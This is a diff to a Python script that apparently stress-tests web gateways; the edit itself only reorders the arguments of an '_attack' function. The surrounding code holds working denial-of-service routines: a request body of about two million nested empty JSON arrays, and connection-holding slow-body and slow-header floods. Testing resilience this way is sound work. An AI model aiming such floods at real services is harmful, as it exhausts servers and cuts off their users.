@@ -36,13 +36,13 @@ def _bodies(kind: str, gateway: str) -> tuple[bytes, dict[str, str]]:
     return b'{"model": [' + b"[]," * 2_000_000 + b"[]]}", {"content-type": "application/json"}
 
 
-async def _attack(kind: str, gateway: str, url: str, path: str, num: int) -> None:
+async def _attack(num: int, kind: str, gateway: str, url: str, path: str) -> None:
     """Until it is killed."""
     host, _, port = url.removeprefix("http://").partition(":")
     if kind in ("bodies", "headers"):
         head = f"POST {path} HTTP/1.1\r\nhost: {host}\r\n".encode()
         rest = b"content-length: 10001\r\n\r\n" + b"x" * 10_000 if kind == "bodies" else b"x-a: "
-        writers = []
+        writers: list[asyncio.StreamWriter] = []
         while True:
             for _ in range(num - len(writers)):
                 _, writer = await asyncio.open_connection(host, int(port))
@@ -104,7 +104,7 @@ def main() -> None:
     parser.add_argument("--attack", nargs=4, metavar=("KIND", "GATEWAY", "URL", "PATH"), help=argparse.SUPPRESS)
     given = parser.parse_args()
     if given.attack:
-        asyncio.run(_attack(*given.attack, given.clients))
+        asyncio.run(_attack(given.clients, *given.attack))
         return
     for gateway in hostile.TARGETS:
         asyncio.run(_compare(gateway, given.requests, given.clients))
